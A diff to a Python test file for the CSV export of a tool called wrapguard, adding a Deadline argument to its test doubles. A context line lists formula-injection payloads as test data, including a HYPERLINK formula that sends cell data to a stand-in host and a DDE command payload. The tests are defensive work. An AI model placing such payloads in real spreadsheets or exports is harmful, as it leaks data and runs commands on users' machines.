@@ -18,6 +18,7 @@ from wrapguard.cli import stats as stats_cli
 from wrapguard.cli.review import main
 from wrapguard.cli.safe_csv import FORMULA_STARTS, SafeCsvWriter, neutralised, safe_cell
 from wrapguard.cli.show import COLUMNS
+from wrapguard.domain.deadline import Deadline
 from wrapguard.domain.stats import FailureFact, compute
 
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx"]
@@ -68,15 +69,15 @@ CID, PID = str(uuid.uuid4()), str(uuid.uuid4())
 class HostileStore:
     """One failure whose every text attribute a flow author or Genesys user could have written."""
 
-    def __init__(self, table_name: str) -> None:
+    def __init__(self, db: Any, table_name: str) -> None:
         self.item: dict[str, Any] = {column: HOSTILE[i % len(HOSTILE)] for i, column in enumerate(COLUMNS)}
         self.item.update(conversationId=CID, participantId=PID, attempts=2, httpStatus=409, expiresAt=-1)
         self.item["reviews"] = [{"status": "resolved", "by": "=ana", "at": "t", "note": "=1+1"}]
 
-    def scan(self) -> Iterator[dict[str, Any]]:
+    def scan(self, *, deadline: Deadline) -> Iterator[dict[str, Any]]:
         return iter([self.item])
 
-    def facts(self, since: date) -> list[FailureFact]:
+    def facts(self, since: date, *, deadline: Deadline) -> list[FailureFact]:
         return [FailureFact("2026-11-24", "=reason", "+source", "open", "q-1", "u-1", "@media")]
 
 
@@ -85,7 +86,7 @@ def test_export_csv_neutralises_every_text_cell_and_keeps_numbers() -> None:
     with patch.object(common, "FailureStore", HostileStore):
         assert main(["--table", "t", "export", "--format", "csv"], out=out) == 0
     (row,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
-    item = HostileStore("t").item
+    item = HostileStore(None, "t").item
     for column in COLUMNS:
         value = item[column]
         if isinstance(value, int):
@@ -130,7 +131,9 @@ def test_stats_csv_neutralises_names_and_keys_and_keeps_figures() -> None:
 
 
 def test_stats_csv_unknown_key_is_an_empty_cell() -> None:
-    stats = compute(("queue",), date(2026, 11, 24), date(2026, 11, 24), None, HostileNoQueue())
+    stats = compute(
+        ("queue",), date(2026, 11, 24), date(2026, 11, 24), None, HostileNoQueue(), deadline=Deadline.unbounded()
+    )
     out = io.StringIO()
     stats_cli.write_csv(stats, out)
     assert list(csv.reader(io.StringIO(out.getvalue()))) == [
@@ -140,5 +143,5 @@ def test_stats_csv_unknown_key_is_an_empty_cell() -> None:
 
 
 class HostileNoQueue:
-    def facts(self, since: date) -> list[FailureFact]:
+    def facts(self, since: date, *, deadline: Deadline) -> list[FailureFact]:
         return [FailureFact("2026-11-24", "timeout", "data_action", "resolved", None, None, None)]
